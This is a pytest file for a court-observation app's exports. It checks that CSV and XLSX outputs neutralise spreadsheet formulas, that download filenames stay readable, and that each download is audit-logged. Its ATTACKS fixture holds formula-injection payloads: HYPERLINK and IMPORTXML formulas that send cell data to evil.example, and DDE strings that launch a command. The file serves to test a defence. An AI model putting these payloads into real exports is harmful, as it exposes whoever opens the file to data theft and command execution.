"""Exports that cannot attack the organizer: no spreadsheet formula from data, file names that
keep their letters, and every download in the audit log."""

from __future__ import annotations

import csv
import io
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app.audit.models import AuditEntry
from app.exports.codebook import neutralise_formulas
from app.exports.models import ObservationSet
from tests.analysis.builders import hearing, send_observation
from tests.exports.builders import COURT, make_set, publish_v1, read_zip

ATTACKS = {
    "remarks": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "debrief_notes": "+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "courtroom": "-2+3+cmd|' /C calc'!A0",
    "judge": "\t=1+1",
    "court": "\r=1+1",
    "case_reference": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
}


def _seed_attacks(db, volunteer_client) -> None:
    v1 = publish_v1(db)
    send_observation(
        volunteer_client,
        protocol_version_id=v1.id,  # type: ignore[arg-type]
        court={
            **COURT,
            "court": ATTACKS["court"],
            "courtroom": ATTACKS["courtroom"],
            "judge": ATTACKS["judge"],
        },
        session_answers={"debrief_notes": ATTACKS["debrief_notes"]},
        hearings=[
            hearing(
                [("judge", 0, 1000)],
                {"remarks": ATTACKS["remarks"], "nco": "ordered"},
                case_reference="27-CR-26-0009",
            ),
            hearing(
                [("judge", 0, 500)],
                {"remarks": "-" + ATTACKS["remarks"]},
                case_reference=ATTACKS["case_reference"],
            ),
        ],
        notes=ATTACKS["notes"],
    )


def _csv_dicts(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(db, volunteer, organizer):
    _seed_attacks(db, volunteer[0])
    client, _ = organizer
    files = read_zip(client.get(f"/sets/{make_set(client)}/export.zip").content)
    h, second = _csv_dicts(files["hearings.csv"])
    (o,) = _csv_dicts(files["observations.csv"])
    assert h["remarks"] == "'" + ATTACKS["remarks"]
    assert h["courtroom"] == "'" + ATTACKS["courtroom"]
    # Names of courts and judges are stored without surrounding blanks: still a formula.
    assert h["judge"] == "'" + ATTACKS["judge"].strip()
    assert h["court"] == "'" + ATTACKS["court"].strip()
    assert o["debrief_notes"] == "'" + ATTACKS["debrief_notes"]
    assert o["notes"] == "'" + ATTACKS["notes"]
    # Ordinary cells are untouched.
    assert h["case_reference"] == "27-CR-26-0009" and h["nco"] == "ordered"
    assert second["case_reference"] == "'" + ATTACKS["case_reference"]
    assert second["remarks"] == "'-" + ATTACKS["remarks"]
    assert second["judge"] == h["judge"]  # the sitting's cells, made plain once, in every row
    for table in ("hearings.csv", "observations.csv", "codebook.csv"):
        for row in _csv_dicts(files[table]):
            for value in row.values():
                assert not value or value[0] not in "=+-@\t\r", (table, value)
    codebook = _csv_dicts(files["codebook.csv"])
    assert any("never run them as formulas" in r["label"] for r in codebook)


def test_xlsx_holds_no_formula_and_numbers_stay_numbers(db, volunteer, organizer):
    _seed_attacks(db, volunteer[0])
    client, _ = organizer
    response = client.get(f"/sets/{make_set(client)}/export.xlsx")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    texts: list[str] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for value in ATTACKS.values():
        assert "'" + value.strip() in texts
    hearings = wb["hearings"]
    header = [c.value for c in next(hearings.iter_rows(max_row=1))]
    values = [c.value for c in next(hearings.iter_rows(min_row=2, max_row=2))]
    row = dict(zip(header, values, strict=True))
    assert row["talk_ms"] == 1000 and isinstance(row["talk_ms"], int)
    assert row["remarks"] == "'" + ATTACKS["remarks"]
    codebook = [c.value for r in wb["codebook"].iter_rows() for c in r]
    assert any(isinstance(v, str) and "never run them as formulas" in v for v in codebook)


def test_every_formula_start_is_neutralised_and_nothing_else():
    cells = ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "plain", "", -1, 2.5, None, "a=b"]
    assert neutralise_formulas(list(cells)) == [
        "'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "plain", "", -1, 2.5, None, "a=b"
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "utf8", "fallback"),
    [
        ("Ñandú", "ñandú", "nandu"),
        (
            "Juzgado Penal Nº 3 — Córdoba",
            "juzgado-penal-nº-3-córdoba",
            "juzgado-penal-no-3-cordoba",
        ),
        ("Room 3B", None, "room-3b"),
    ],
)
def test_download_names_keep_their_letters(db, organizer, name, utf8, fallback):
    client, _ = organizer
    set_id = make_set(client, name)
    for ext, path in (("zip", "export.zip"), ("xlsx", "export.xlsx"), ("json", "export.json")):
        disposition = client.get(f"/sets/{set_id}/{path}").headers["content-disposition"]
        parts = dict(
            p.strip().split("=", 1) for p in disposition.split(";")[1:]
        )  # filename=…; filename*=…
        assert parts["filename"].startswith(f'"{fallback}-') and parts["filename"].isascii()
        assert parts["filename"].endswith(f'.{ext}"')
        if utf8 is None:
            assert "filename*" not in parts
        else:
            assert parts["filename*"].startswith("UTF-8''")
            assert unquote(parts["filename*"][7:]).startswith(f"{utf8}-")
            assert parts["filename*"].isascii()  # percent-encoded


def test_every_download_is_in_the_audit_log(db, volunteer, organizer):
    publish_v1(db)
    client, user = organizer
    set_id = make_set(client, "Ñandú")
    client.get(f"/sets/{set_id}/export.zip?without_identities=1")
    client.get(f"/sets/{set_id}/export.xlsx?without_free_text=1")
    client.get(f"/sets/{set_id}/export.json")
    db.expire_all()
    entries = db.exec(
        select(AuditEntry).where(AuditEntry.action == "export.download").order_by(AuditEntry.id)
    ).all()
    assert [e.detail["format"] for e in entries] == ["csv", "xlsx", "json"]
    assert {e.actor_id for e in entries} == {user.id}
    assert {e.target for e in entries} == {f"observation_set:{set_id}"}
    assert entries[0].detail["options"] == {"free_text": True, "identities": False}
    assert entries[1].detail["options"] == {"free_text": False, "identities": True}
    assert entries[2].detail["set_name"] == db.get(ObservationSet, set_id).name
    assert all(e.ip_address for e in entries)
